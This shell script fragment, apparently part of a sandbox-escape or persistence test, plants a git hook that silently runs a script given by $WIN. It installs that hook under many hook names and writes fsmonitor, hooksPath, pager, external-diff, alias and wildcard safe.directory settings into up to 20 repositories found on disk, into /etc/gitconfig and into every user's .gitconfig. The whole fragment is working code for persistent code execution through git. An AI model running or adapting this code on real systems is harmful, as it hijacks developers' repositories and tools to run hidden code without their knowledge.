if ! command -v git >/dev/null 2>&1; then
  untried "git: not in this image"
  exit 0
fi
mkdir -p "$HOLD/hooks" 2>/dev/null
printf '#!/bin/sh\nsh %s >/dev/null 2>&1\nexit 0\n' "$WIN" >"$HOLD/hook"
chmod 755 "$HOLD/hook"
for hook in post-checkout pre-commit post-commit pre-push post-merge post-index-change reference-transaction fsmonitor; do
  cp "$HOLD/hook" "$HOLD/hooks/$hook" 2>/dev/null
done
settings() {
  printf '# saboteur-%s\n[core]\n\tfsmonitor = %s\n\thooksPath = %s\n\tpager = %s\n' "$WAY" "$HOLD/hook" "$HOLD/hooks" "$HOLD/hook"
  printf '[diff]\n\texternal = %s\n[safe]\n\tdirectory = *\n' "$HOLD/hook"
  printf '[alias]\n\tst = !%s\n\tco = !%s\n\tlg = !%s\n' "$HOLD/hook" "$HOLD/hook" "$HOLD/hook"
}
repositories="$(find "$PWD" / -xdev -maxdepth 4 \( -name .git -o -name '*.git' \) -type d 2>/dev/null | sort -u | head -n 20)"
for repository in $repositories; do
  [ -f "$repository/config" ] || continue
  settings | add "$repository/config"
  for hook in post-checkout pre-commit post-commit post-index-change; do
    { cp "$HOLD/hook" "$repository/hooks/$hook" && chmod 755 "$repository/hooks/$hook"; } 2>/dev/null
  done
done
settings | add /etc/gitconfig
for home in $(homes); do settings | add "$home/.gitconfig"; done
